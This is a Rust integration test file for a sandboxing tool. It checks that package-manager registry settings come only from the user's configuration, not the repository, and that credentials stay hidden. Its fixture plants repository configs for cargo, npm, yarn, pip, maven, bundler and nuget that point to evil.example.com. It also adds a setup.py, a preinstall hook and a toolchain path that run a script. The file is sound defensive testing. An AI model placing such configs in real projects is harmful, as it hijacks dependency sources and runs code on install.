//! `network.registries` with the real tools: what the user configured is found, and what a repository says is not asked.

#![expect(
    clippy::unwrap_used,
    reason = "what fails here fails the test, and the place tells what it was"
)]

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};

/// Levels that every case must hold at.
const LEVELS: [&str; 2] = ["b", "c"];

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Whether a program is there; a skip is printed, and fails where everything must run.
#[expect(
    clippy::print_stdout,
    reason = "a skip is told to whoever reads the output"
)]
fn has(program: &str) -> bool {
    let found = Command::new("sh")
        .args(["-c", &format!("command -v {program}")])
        .output()
        .unwrap()
        .status
        .success();
    if !found {
        println!("skipped: {program} is not installed");
        assert!(
            std::env::var_os("TAGOUT_TEST_ALL").is_none()
                || !["cargo", "npm", "pip"].contains(&program),
            "{program} is missing"
        );
    }
    found
}

/// `tagout sandbox` in a repository, with a home of the test's own; toolchains are found by their own variables.
fn sandbox(level: &str, home: &Path, repository: &Path, tools: &str, script: &str) -> Output {
    let policy = home.join("policy.yml");
    let allow = "[{host: mirror.internal, ports: [8443], private: true, paths: [/none]}]";
    let yaml = format!("version: 1\nnetwork:\n  allow: {allow}\n  registries: [{tools}]\n");
    fs::write(&policy, yaml).unwrap();
    let real = std::path::PathBuf::from(std::env::var_os("HOME").unwrap());
    let mut command = Command::new(env!("CARGO_BIN_EXE_tagout"));
    command
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap())
        .env("HOME", home)
        .current_dir(repository)
        .args(["sandbox", "--level", level, "--policy"])
        .arg(policy);
    for (variable, folder) in [
        ("RUSTUP_HOME", ".rustup"),
        ("PYENV_ROOT", ".pyenv"),
        ("NVM_DIR", ".nvm"),
    ] {
        let named = std::env::var_os(variable).map(std::path::PathBuf::from);
        let folder = named.unwrap_or_else(|| real.join(folder));
        if folder.is_dir() {
            command.env(variable, folder);
        }
    }
    // Cargo's programs lie in its home; its configuration is looked for below HOME.
    command.env("CARGO_HOME", real.join(".cargo"));
    command.args(["--", "sh", "-c", script]).output().unwrap()
}

/// A repository that sets whatever a tool reads from a project: another registry, another program to run.
fn hostile(folder: &Path, marker: &Path) {
    let write = |name: &str, text: &str| {
        let path = folder.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    let run = format!("#!/bin/sh\ntouch {}\n", marker.display());
    write("run.sh", &run);
    write("toolchain/bin/cargo", &run);
    write("toolchain/bin/rustc", &run);
    for name in ["run.sh", "toolchain/bin/cargo", "toolchain/bin/rustc"] {
        fs::set_permissions(folder.join(name), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = folder.display();
    write(
        "rust-toolchain.toml",
        &format!("[toolchain]\npath = \"{path}/toolchain\"\n"),
    );
    write(
        ".cargo/config.toml",
        &format!(
            "[build]\nrustc = \"{path}/run.sh\"\n[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+https://evil.example.com/\"\n"
        ),
    );
    write(".npmrc", "registry=https://evil.example.com/\n");
    write(
        "package.json",
        "{\"scripts\": {\"preinstall\": \"./run.sh\"}}",
    );
    write(
        ".yarnrc.yml",
        "yarnPath: ./run.sh\nnpmRegistryServer: https://evil.example.com/\n",
    );
    write(
        ".yarnrc",
        "registry \"https://evil.example.com/\"\nyarn-path \"./run.sh\"\n",
    );
    write(
        "pip.conf",
        "[global]\nindex-url = https://evil.example.com/simple\n",
    );
    write("setup.py", "import os; os.system('./run.sh')\n");
    write(
        "uv.toml",
        "index-url = \"https://evil.example.com/simple\"\n",
    );
    write(".mvn/maven.config", "-s\nsettings.xml\n");
    write(".mvn/extensions.xml", "<extensions/>");
    write(
        "settings.xml",
        "<settings><mirrors><mirror><id>e</id><mirrorOf>*</mirrorOf><url>https://evil.example.com/</url></mirror></mirrors></settings>",
    );
    write("pom.xml", "<project/>");
    write(
        ".bundle/config",
        "BUNDLE_MIRROR__ALL: https://evil.example.com/\n",
    );
    write(
        "nuget.config",
        "<configuration><packageSources><add key=\"e\" value=\"https://evil.example.com/\"/></packageSources></configuration>",
    );
}

/// What the tools say where they stand in the repository itself: the control, without which nothing was shown.
fn believed(folder: &Path, program: &str, args: &[&str]) -> bool {
    let output = Command::new(program)
        .args(args)
        .current_dir(folder)
        .output()
        .unwrap();
    text(&output.stdout).contains("evil.example.com")
        || text(&output.stderr).contains("evil.example.com")
}

#[test]
fn repository_has_no_say_in_what_is_asked() {
    let home = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    let marker = home.path().join("ran");
    hostile(repository.path(), &marker);
    if has("npm") {
        assert!(
            believed(repository.path(), "npm", &["config", "get", "registry"]),
            "the control"
        );
    }
    if has("cargo") {
        // rustup runs the repository's own program here.
        Command::new("cargo")
            .arg("--version")
            .current_dir(repository.path())
            .output()
            .unwrap();
        if marker.exists() {
            fs::remove_file(&marker).unwrap();
        } else {
            println!("skipped: cargo is not run by rustup here, so a toolchain file is no danger");
        }
    }
    for tool in [
        "cargo", "npm", "pip", "yarn", "pnpm", "uv", "go", "maven", "rubygems", "nuget",
    ] {
        let program = match tool {
            "maven" => "mvn",
            "rubygems" => "gem",
            "nuget" => "dotnet",
            other => other,
        };
        if !has(program) {
            continue;
        }
        for level in LEVELS {
            let output = sandbox(level, home.path(), repository.path(), tool, "true");
            let told = text(&output.stderr);
            assert_eq!(output.status.code(), Some(0), "{level} {tool}: {told}");
            assert!(
                told.contains(&format!("tagout: registries: {tool} reads ")),
                "{level} {tool}: {told}"
            );
            assert!(!told.contains("reads no host"), "{level} {tool}: {told}");
            assert!(!told.contains("evil"), "{level} {tool}: {told}");
            assert!(
                !marker.exists(),
                "{level}: {tool} ran the repository's program"
            );
        }
    }
}

#[test]
fn configured_mirror_is_found_and_its_password_goes_nowhere() {
    let home = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        let path = home.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    write(
        ".npmrc",
        "registry=https://mirror.internal:8443/npm/\n//mirror.internal:8443/npm/:_authToken=canary\n@own:registry=https://own.example.com/\n",
    );
    write(
        ".config/pip/pip.conf",
        "[global]\nindex-url = https://u:canary@mirror.internal:8443/pip/simple\nextra-index-url = https://more.example.com/simple\n",
    );
    let script = "cat ~/.npmrc ~/.config/pip/pip.conf; env; npm config get registry; grep -rs canary / --include=.npmrc --include=pip.conf";
    for (tool, hosts) in [
        ("npm", ["mirror.internal:8443", "own.example.com"]),
        ("pip", ["mirror.internal:8443", "more.example.com"]),
    ] {
        if !has(tool) {
            continue;
        }
        for level in LEVELS {
            let output = sandbox(level, home.path(), repository.path(), tool, script);
            let told = text(&output.stderr);
            let line = told
                .lines()
                .find(|line| line.starts_with(&format!("tagout: registries: {tool} reads ")))
                .unwrap_or_else(|| panic!("{level} {tool}: {told}"));
            assert!(hosts.iter().all(|host| line.contains(host)), "{line}");
            let shown = text(&output.stdout);
            assert!(
                !shown.contains("canary") && !told.contains("canary"),
                "{level} {tool}: {shown} {told}"
            );
            assert!(
                shown.contains("https://mirror.internal:8443/"),
                "{level} {tool}: the tools inside use it too: {shown}"
            );
        }
    }
}

#[test]
fn answer_that_makes_no_rule_ends_the_run_with_the_mend() {
    if !has("npm") {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    let marker = repository.path().join("ran");
    for (registry, why) in [
        ("http://plain.example.com/", "it is not https"),
        ("https://unnamed.internal/", "not a public name"),
        ("https://127.0.0.1/", "not a public name"),
    ] {
        fs::write(home.path().join(".npmrc"), format!("registry={registry}\n")).unwrap();
        let output = sandbox("b", home.path(), repository.path(), "npm", "touch ran");
        let told = text(&output.stderr);
        assert_eq!(output.status.code(), Some(125), "{told}");
        assert!(
            told.contains("registry-unfit") && told.contains(why),
            "{told}"
        );
        assert!(
            told.contains("policy.yml:4") && told.contains("network.allow"),
            "{told}"
        );
        assert!(!marker.exists());
    }
}

#[test]
fn configuration_in_the_repository_is_not_taken_even_where_a_variable_names_it() {
    if !has("npm") {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    let repository = tempfile::tempdir().unwrap();
    fs::write(
        repository.path().join("evil.npmrc"),
        "registry=https://evil.example.com/\n",
    )
    .unwrap();
    let policy = home.path().join("p.yml");
    fs::write(&policy, "version: 1\nnetwork: {registries: [npm]}\n").unwrap();
    let ask = |npmrc: &Path| {
        let output = Command::new(env!("CARGO_BIN_EXE_tagout"))
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap())
            .env("HOME", home.path())
            .env("NPM_CONFIG_USERCONFIG", npmrc)
            .current_dir(repository.path())
            .args(["sandbox", "--policy"])
            .arg(&policy)
            .args(["--", "true"])
            .output()
            .unwrap();
        text(&output.stderr)
    };
    let own = home.path().join("own.npmrc");
    fs::write(&own, "registry=https://own.example.com/\n").unwrap();
    assert!(
        ask(&own).contains("npm reads own.example.com"),
        "a file elsewhere is the user's"
    );
    let told = ask(&repository.path().join("evil.npmrc"));
    assert!(
        told.contains("npm reads ") && !told.contains("evil"),
        "{told}"
    );
    let link = home.path().join("link.npmrc");
    std::os::unix::fs::symlink(repository.path().join("evil.npmrc"), &link).unwrap();
    assert!(!ask(&link).contains("evil"));
}
